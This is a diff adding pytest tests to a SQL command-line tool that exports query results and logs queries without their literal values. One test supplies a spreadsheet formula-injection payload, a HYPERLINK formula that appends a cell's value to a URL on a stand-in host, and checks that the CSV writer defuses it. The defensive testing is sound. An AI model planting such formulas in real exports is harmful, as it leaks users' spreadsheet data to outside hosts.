@@ -13,9 +13,11 @@ import pytest
 from click.testing import CliRunner
 
 from pgwitness.cli import main
+from pgwitness.cli.evidence import Recorder
 from pgwitness.cli.sql_completion import Known, proposals
 from pgwitness.core.privacy import write_key
 from sinks.lake.writer import Lake
+from sinks.sql.shape import shape
 from tests.questions.terminal import Terminal, terminal
 from tests.sinks.material import ORDINARY, change, other
 
@@ -169,3 +171,89 @@ def test_a_query_that_fails_leaves_no_file(home: Path, tmp_path: Path) -> None:
     words = ["sql", "SELECT error('no')", "--output", str(tmp_path / "a.csv"), "--config", str(home / "pgwitness.toml")]
     assert CliRunner().invoke(main, words).exit_code == 1
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("ending", ["csv", "json"])
+def test_times_without_end_and_before_christ_go_into_a_file(home: Path, tmp_path: Path, ending: str) -> None:
+    """What Python has no date for is text; infinity stays infinity."""
+    path = tmp_path / f"answer.{ending}"
+    query = (
+        "SELECT TIMESTAMPTZ 'infinity' AS a, TIMESTAMPTZ '-infinity' AS b, DATE '0044-03-15 (BC)' AS c,"
+        " TIMESTAMPTZ '20000-01-01 00:00:00Z' AS d, TIMESTAMP_NS '2020-01-01 00:00:00.123456789' AS e"
+    )
+    result = CliRunner().invoke(main, ["sql", query, "--output", str(path), "--config", str(home / "pgwitness.toml")])
+    assert result.exit_code == 0, result.output
+    row = json.loads(path.read_text())[0] if ending == "json" else next(csv.DictReader(path.read_text().splitlines()))
+    assert [row[name] for name in "abcd"] == ["infinity", "-infinity", "0044-03-15 (BC)", "20000-01-01 00:00:00+00"]
+
+
+def test_a_spreadsheet_runs_no_name_from_the_evidence(home: Path, tmp_path: Path) -> None:
+    """A text that would be a formula gets an apostrophe in CSV; numbers, and what looks like one, stay as they are."""
+    path = tmp_path / "answer.csv"
+    query = """
+        SELECT '=HYPERLINK("http://x/?"&A1)' AS "=a", '@x' AS b, '-2+3|x' AS c, '-5' AS d, -5 AS e, '+49 30 1' AS f
+    """
+    result = CliRunner().invoke(main, ["sql", query, "--output", str(path), "--config", str(home / "pgwitness.toml")])
+    assert result.exit_code == 0, result.output
+    names, row = csv.reader(path.read_text().splitlines())
+    assert names[0] == "'=a"
+    assert row == ['\'=HYPERLINK("http://x/?"&A1)', "'@x", "'-2+3|x", "-5", "-5", "+49 30 1"]
+
+
+def test_columns_that_share_a_name_are_all_there(home: Path) -> None:
+    """Even where another column has the name that one would get for its place."""
+    words = ["sql", "SELECT 1 AS a_3, 2 AS a, 3 AS a", "--json", "--config", str(home / "pgwitness.toml")]
+    result = CliRunner().invoke(main, words)
+    assert json.loads(result.stdout) == [{"a_3": 1, "a": 2, "a_3_3": 3}]
+
+
+@pytest.mark.parametrize(("words", "sent"), [(["sql", "SELECT '\udcff'"], b""), (["sql"], b"SELECT \xff")])
+def test_a_query_that_is_no_text_is_refused_in_a_sentence(home: Path, words: list[str], sent: bytes) -> None:
+    """Bytes that are no UTF-8, in the argument or on stdin."""
+    result = CliRunner().invoke(main, [*words, "--config", str(home / "pgwitness.toml")], input=sent)
+    assert result.exit_code == 1
+    assert "not text in UTF-8" in result.output
+
+
+class _Kept(Recorder):
+    """A recorder that keeps what it would send."""
+
+    def __init__(self) -> None:
+        self.sent: list[dict[str, object]] = []
+
+    def _record(self, operation: str, source: str, asked: dict[str, object]) -> None:
+        self.sent.append(asked)
+
+
+def test_what_was_asked_in_duckdbs_own_sql_is_written_down_without_literals() -> None:
+    """PostgreSQL's parser does not know it, and a hash alone would not tell what somebody looked for."""
+    kept = _Kept()
+    with kept.asking("FROM touched('public.cards', 7) SELECT * EXCLUDE (detail) -- for eve"):
+        pass
+    assert kept.sent[0]["statement"] == "FROM touched ( $1 , $2 ) SELECT * EXCLUDE ( detail )"
+    assert kept.sent[0]["outcome"] == "success"
+
+
+@pytest.mark.parametrize("end", [KeyboardInterrupt, OverflowError, SystemExit])
+def test_a_query_is_written_down_however_it_ends(end: type[BaseException]) -> None:
+    """A Ctrl-C at the right moment leaves no question without a trace."""
+    kept = _Kept()
+    with pytest.raises(end), kept.asking("SELECT 1"):
+        raise end
+    assert [asked["outcome"] for asked in kept.sent] == ["failure"]
+
+
+@pytest.mark.parametrize(
+    ("query", "shown"),
+    [
+        ("FROM events WHERE x = 'ä' AND \"a--b\" = $$it's$$ /* 'secret' */ AND n IN (1, 2e5)",
+         'FROM events WHERE x = $1 AND "a--b" = $2 AND n IN ( $3 , $4 )'),
+        ("FROM events WHERE x = E'a\\'secret' -- secret", "FROM events WHERE x = $1"),
+        ("FROM events WHERE 'secret", None),
+        ("secret words that are no SQL", None),
+        ("FROM \ud800", None),
+    ],
+)  # fmt: skip
+def test_the_shape_of_a_query_has_no_literal(query: str, shown: str | None) -> None:
+    """As DuckDB reads it; where it cannot, there is none."""
+    assert shape(query) == shown
